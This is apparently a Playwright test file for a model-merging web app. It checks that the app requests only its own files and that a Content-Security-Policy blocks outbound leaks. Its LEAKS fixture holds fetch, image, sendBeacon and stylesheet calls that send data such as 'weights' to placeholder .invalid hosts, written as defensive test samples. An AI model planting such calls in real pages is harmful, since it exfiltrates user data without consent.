import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { BrowserContext, Page } from '@playwright/test'
import { containmentHeaders, isolationHeaders, metaPolicy } from '../scripts/headers.ts'
import { modelsOf, recipeOf } from './conformance-cases.ts'
import { expect, test } from './fixtures.ts'

// Nothing leaves the machine: every request of every target is recorded, and a page that leaks shows that the record would see it.

const DIST = fileURLToPath(new URL('../dist', import.meta.url))

function recordRequests(context: BrowserContext): { readonly urls: string[]; stop(): void } {
  const urls: string[] = []
  const onRequest = (request: { url(): string }) => urls.push(request.url())
  context.on('request', onRequest)
  return { urls, stop: () => context.off('request', onRequest) }
}

test('a full merge asks for the own files of the app alone, and for none while it merges', async ({
  studio,
  makeFolder,
  context,
  baseURL,
}) => {
  const { urls, stop } = recordRequests(context)
  await studio.open()
  for (const model of modelsOf('lzlv')) await studio.addModel(model)
  await studio.importRecipe(recipeOf('lzlv'))
  await studio.setEngine('WebAssembly')
  await studio.outputFolder(makeFolder('merged'))
  const before = urls.length
  await studio.merge()
  await studio.waitDone()
  stop()
  const built = readdirSync(DIST, { recursive: true, encoding: 'utf8' }).map((name) => new URL(name, baseURL).href)
  const own = new Set([...built, baseURL])
  expect(urls.filter((url) => !own.has(url))).toEqual([])
  // The worker's script, and the kernels that it compiles, are loaded when Merge is pressed; they are files of the app.
  const during = urls.slice(before).filter((url) => !/\/assets\/[\w.-]+\.(js|wasm)$/.test(url))
  expect(during).toEqual([])
})

const LEAKS = `
fetch('https://fetch.invalid/').catch(() => {})
new Image().src = 'https://image.invalid/'
navigator.sendBeacon('https://beacon.invalid/', 'weights')
const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'https://style.invalid/'; document.head.append(link)
`
const HOSTS = ['fetch', 'image', 'beacon', 'style']

async function openLeaky(page: Page, headers: Record<string, string>, head = ''): Promise<void> {
  const html = `<html><head>${head}<title>leaky</title></head><body><script src="/leaks.js"></script></body></html>`
  await page.route('**/leaky.html', (route) => route.fulfill({ contentType: 'text/html', body: html, headers }))
  await page.route('**/leaks.js', (route) => route.fulfill({ contentType: 'text/javascript', body: LEAKS, headers }))
  await page.goto('/leaky.html')
}

const META = `<meta http-equiv="Content-Security-Policy" content="${metaPolicy()}">`

test.describe('a page that leaks', () => {
  test.use({ allowComplaints: true })

  for (const [policy, headers, head] of [
    ['the headers', containmentHeaders, ''],
    ['the <meta> element alone', {}, META],
  ] as const)
    test(`is held by ${policy}`, async ({ page, context, watching, baseURL }) => {
      const { urls, stop } = recordRequests(context)
      await openLeaky(page, { ...headers }, head)
      await expect.poll(() => watching.complaints.filter((text) => /violat/i.test(text)).length).toBeGreaterThan(2)
      stop()
      const violations = watching.complaints.join('\n')
      for (const host of HOSTS) expect(violations).toContain(`${host}.invalid`)
      // What the policy blocks may be announced, and is then named among the violations; nothing else may be there.
      const strange = urls.filter((url) => !url.startsWith(baseURL ?? '') && !violations.includes(new URL(url).host))
      expect(strange).toEqual([])
    })

  test('is seen leaking by the record when the policy is off', async ({ page, context }) => {
    const { urls, stop } = recordRequests(context)
    await openLeaky(page, isolationHeaders())
    for (const host of HOSTS) await expect.poll(() => urls.join('\n')).toContain(`https://${host}.invalid/`)
    stop()
  })
})

test('the built page carries the policy, and the headers lie beside it', () => {
  const html = readFileSync(join(DIST, 'index.html'), 'utf8').replaceAll('&#39;', "'")
  expect(html).toContain(`content="${metaPolicy()}"`)
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'))
  const file = readFileSync(join(DIST, '_headers'), 'utf8')
  for (const [name, value] of Object.entries(containmentHeaders)) expect(file).toContain(`  ${name}: ${value}\n`)
})
